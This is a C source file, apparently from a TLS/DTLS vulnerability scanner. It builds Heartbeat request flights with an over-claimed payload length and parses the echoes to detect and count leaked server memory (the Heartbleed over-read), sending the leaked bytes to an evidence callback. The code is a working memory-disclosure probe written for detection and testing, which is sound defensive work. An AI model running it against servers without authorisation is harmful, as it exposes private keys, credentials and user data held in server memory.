/*
 * Heartbeat flight builder and streaming reply reader.
 */
#include "tls/heartbeat.h"

#include <string.h>

#include "tls/rd.h"
#include "tls/tls.h"

static uint64_t mix64(uint64_t x)
{
	x += 0x9e3779b97f4a7c15ULL;
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
	x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
	return x ^ (x >> 31);
}

int hb_plan_init(struct hb_plan *p, uint64_t nonce, uint16_t sentinel_len,
    uint16_t probe_len, uint16_t k)
{
	/* A flight needs one request at least, and a claim needs a probe. */
	if ((probe_len == 0 && (k > 0 || sentinel_len == 0)) ||
	    (uint32_t)probe_len + k > 0xffff)
		return -1;
	memset(p, 0, sizeof(*p));
	p->nonce = nonce;
	p->sentinel_len = sentinel_len;
	p->probe_len = probe_len;
	p->k = k;
	return 0;
}

int hb_plan_flight(struct hb_plan *p, uint64_t nonce, uint16_t k)
{
	if (hb_plan_init(p, nonce, HB_SENTINEL_LEN, HB_PROBE_LEN, k) != 0)
		return -1;
	p->fence_len = HB_FENCE_LEN;
	return 0;
}

uint8_t hb_payload_byte(const struct hb_plan *p, int which, size_t i)
{
	/* Distinct streams for sentinel and probe, so neither echo can be
	 * mistaken for the other even at equal lengths. */
	uint64_t w = mix64(p->nonce ^ ((uint64_t)(which + 1) << 56) ^ (i >> 3));

	return (uint8_t)(w >> ((i & 7) * 8));
}

int hb_expected_tail(const struct hb_plan *p, enum hb_tail_model m, size_t off)
{
	size_t at;

	switch (m) {
	case HB_TAIL_STALE:
		if (p->sentinel_len == 0)
			return -1;
		at = (size_t)p->probe_len + off;
		if (at < p->sentinel_len)
			return hb_payload_byte(p, 0, at);
		/* The sentinel's own padding follows its payload. */
		if (at < (size_t)p->sentinel_len + HB_MIN_PADDING)
			return HB_PADDING_BYTE;
		return -1;
	case HB_TAIL_FOLLOW:
		if (p->fence_len == 0)
			return -1;
		switch (off) {
		case 0:
			return TLS_CT_APPDATA;
		case 1:
			return p->rec_ver >> 8;
		case 2:
			return p->rec_ver & 0xff;
		case 3:
			return p->fence_len >> 8;
		case 4:
			return p->fence_len & 0xff;
		default:
			break;
		}
		if (off - TLS_HDR_LEN < p->fence_len)
			return hb_payload_byte(p, 3, off - TLS_HDR_LEN);
		return -1;
	case HB_TAIL_HELLO:
		if (p->pad_len == 0)
			return -1;
		/* The probe record's header, type and length, its payload,
		 * then the stale hello at the same record offset. */
		at = TLS_HDR_LEN + 3 + (size_t)p->probe_len + off;
		if (at >= p->pad_at && at - p->pad_at < p->pad_len)
			return hb_payload_byte(p, 2, at - p->pad_at);
		return -1;
	case HB_TAIL_NEXT_DTLS:
		if (!p->dtls || p->sentinel_len == 0)
			return -1;
		/* The sentinel record: type, version, epoch 0, 48-bit
		 * sequence, length; then type 1, payload_length, payload,
		 * padding. */
		switch (off) {
		case 0:
			return TLS_CT_HEARTBEAT;
		case 1:
			return p->rec_ver >> 8;
		case 2:
			return p->rec_ver & 0xff;
		case 3:
		case 4:
			return 0;
		case 5:
		case 6:
		case 7:
		case 8:
		case 9:
		case 10:
			return (int)((p->dtls_seq >> (8 * (10 - off))) & 0xff);
		case 11:
		case 12:
			at = 3 + (size_t)p->sentinel_len + HB_MIN_PADDING;
			return (int)(off == 11 ? at >> 8 : at & 0xff);
		case 13:
			return HB_REQUEST;
		case 14:
			return p->sentinel_len >> 8;
		case 15:
			return p->sentinel_len & 0xff;
		default:
			break;
		}
		at = off - 16;
		if (at < p->sentinel_len)
			return hb_payload_byte(p, 0, at);
		if (at < (size_t)p->sentinel_len + HB_MIN_PADDING)
			return HB_PADDING_BYTE;
		return -1;
	default:
		return -1;
	}
}

ssize_t hb_appdata_record(const struct hb_plan *p, uint16_t ver, size_t n,
    uint8_t *out, size_t cap)
{
	size_t i;
	int ours = p->fence_len != 0 && n == p->fence_len;

	if (n == 0 || n > TLS_MAX_RECORD || cap < TLS_HDR_LEN + n)
		return -1;
	out[0] = TLS_CT_APPDATA;
	wr_u16(out + 1, ver);
	wr_u16(out + 3, (uint16_t)n);
	for (i = 0; i < n; i++)
		out[TLS_HDR_LEN + i] = ours ? hb_payload_byte(p, 3, i) : 0;
	return (ssize_t)(TLS_HDR_LEN + n);
}

ssize_t hb_request_record(const struct hb_plan *p, int which, uint16_t ver,
    uint16_t claim, size_t padlen, uint8_t *out, size_t cap)
{
	size_t plen = which == 0 ? p->sentinel_len : p->probe_len;
	size_t body = 3 + plen + padlen;
	uint8_t *w = out;
	size_t i;

	if (body > TLS_MAX_RECORD || cap < TLS_HDR_LEN + body)
		return -1;
	*w++ = TLS_CT_HEARTBEAT;
	w = wr_u16(w, ver);
	w = wr_u16(w, (uint16_t)body);
	*w++ = HB_REQUEST;
	w = wr_u16(w, claim);
	for (i = 0; i < plen; i++)
		*w++ = hb_payload_byte(p, which, i);
	/* Padding is random in RFC 6520; any fixed bytes do, and fixed bytes
	 * keep the flight reproducible for tests. */
	memset(w, HB_PADDING_BYTE, padlen);
	w += padlen;
	return w - out;
}

ssize_t hb_flight_tls(const struct hb_plan *p, uint16_t ver, int fence,
    uint8_t *out, size_t cap)
{
	ssize_t a, b;
	size_t n;

	a = hb_request_record(p, 0, ver, p->sentinel_len, HB_MIN_PADDING, out,
	    cap);
	if (a < 0)
		return -1;
	b = hb_request_record(p, 1, ver, (uint16_t)(p->probe_len + p->k), 0,
	    out + a, cap - (size_t)a);
	if (b < 0)
		return -1;
	n = (size_t)(a + b);
	if (fence) {
		ssize_t f = hb_appdata_record(p, ver,
		    p->fence_len ? p->fence_len : 1, out + n, cap - n);

		if (f < 0)
			return -1;
		n += (size_t)f;
	}
	return (ssize_t)n;
}

static void msg_reset(struct hb_reader *r)
{
	r->hdr_have = 0;
	r->in_padding = 0;
	r->len = 0;
	r->off = 0;
	r->pad_have = 0;
	r->match_sentinel = 1;
	/* A plan without a probe (a lone valid heartbeat) matches none. */
	r->match_probe = r->plan && r->plan->probe_len > 0;
	r->tail_len = 0;
	memset(r->tail_known, 0, sizeof(r->tail_known));
	memset(r->tail_mism, 0, sizeof(r->tail_mism));
}

void hb_reader_init(struct hb_reader *r, const struct hb_plan *p)
{
	memset(r, 0, sizeof(*r));
	r->plan = p;
	msg_reset(r);
}

/* Over-read bytes of the finished echo that were server memory, under the
 * model that explains the most of it.  Where one byte differs from a
 * model's copy, the buffer was not that copy: every byte of the tail counts
 * then, even those that match by chance. */
static uint32_t tail_disclosed(struct hb_reader *r)
{
	uint32_t best = r->tail_len, d;
	int m;

	for (m = 0; m < HB_TAIL_MODELS; m++) {
		d = r->tail_mism[m] ? r->tail_len :
				      r->tail_len - r->tail_known[m];
		if (d < best ||
		    (d == best &&
			r->tail_known[m] > r->tail_known[r->proof_model])) {
			best = d;
			r->proof_model = (uint8_t)m;
		}
	}
	return best;
}

/* Judges a response whose payload has been read in full. */
static void msg_judge(struct hb_reader *r)
{
	const struct hb_plan *p = r->plan;
	uint8_t type = r->hdr[0];

	r->messages++;
	if (type == HB_REQUEST) {
		r->requests_seen = 1;
		return;
	}
	if (p->sentinel_len > 0 && r->len == p->sentinel_len &&
	    r->match_sentinel)
		r->sentinel_echoed = 1;
	else if (p->k > 0 && r->match_probe &&
	    r->len == (uint32_t)p->probe_len + p->k) {
		r->probe_echoed = 1;
		r->disclosed += tail_disclosed(r);
	} else if (p->probe_len > 0 && r->len == p->probe_len && r->match_probe)
		r->lax_echoed = 1;
	else
		r->foreign = 1;
}

/* Compares payload bytes [r->off, r->off + n) with both requests. */
static void msg_compare(struct hb_reader *r, const uint8_t *b, size_t n)
{
	const struct hb_plan *p = r->plan;
	size_t i, tail_from = n;
	int m;

	for (i = 0; i < n; i++) {
		size_t at = r->off + i;
		int exp;

		if (r->match_sentinel &&
		    (at >= p->sentinel_len ||
			b[i] != hb_payload_byte(p, 0, at)))
			r->match_sentinel = 0;
		if (!r->match_probe)
			continue;
		if (at < p->probe_len) {
			if (b[i] != hb_payload_byte(p, 1, at))
				r->match_probe = 0;
			continue;
		}
		if (tail_from == n)
			tail_from = i;
		r->tail_len++;
		for (m = 0; m < HB_TAIL_MODELS; m++) {
			exp = hb_expected_tail(p, (enum hb_tail_model)m,
			    at - p->probe_len);
			if (exp < 0)
				continue;
			r->tail_known[m]++;
			if (b[i] != (uint8_t)exp)
				r->tail_mism[m]++;
		}
	}
	/* The whole over-read goes to the evidence hook, ours or not. */
	if (r->match_probe && r->on_disclosed && tail_from < n)
		r->on_disclosed(r->ctx, r->off + tail_from - p->probe_len,
		    b + tail_from, n - tail_from);
}

int hb_reader_feed(struct hb_reader *r, const uint8_t *b, size_t n)
{
	while (n > 0) {
		size_t take;

		if (r->hdr_have < 3) {
			r->hdr[r->hdr_have++] = *b++;
			n--;
			if (r->hdr_have == 3) {
				if (r->hdr[0] != HB_REQUEST &&
				    r->hdr[0] != HB_RESPONSE)
					return -1;
				r->len = (uint16_t)(r->hdr[1] << 8 | r->hdr[2]);
				if (r->len == 0) {
					msg_judge(r);
					r->in_padding = 1;
				}
			}
			continue;
		}
		if (!r->in_padding) {
			take = r->len - r->off;
			if (take > n)
				take = n;
			if (r->hdr[0] == HB_RESPONSE)
				msg_compare(r, b, take);
			r->off += (uint32_t)take;
			b += take;
			n -= take;
			if (r->off == r->len) {
				msg_judge(r);
				r->in_padding = 1;
			}
			continue;
		}
		/* Padding runs to the end of the record that completes it. */
		r->pad_have += (uint32_t)n;
		n = 0;
	}
	return 0;
}

void hb_reader_record_end(struct hb_reader *r)
{
	/* A message ends with its record once its payload and minimum
	 * padding are in; otherwise it continues in the next record. */
	if (r->in_padding && r->pad_have >= HB_MIN_PADDING)
		msg_reset(r);
}
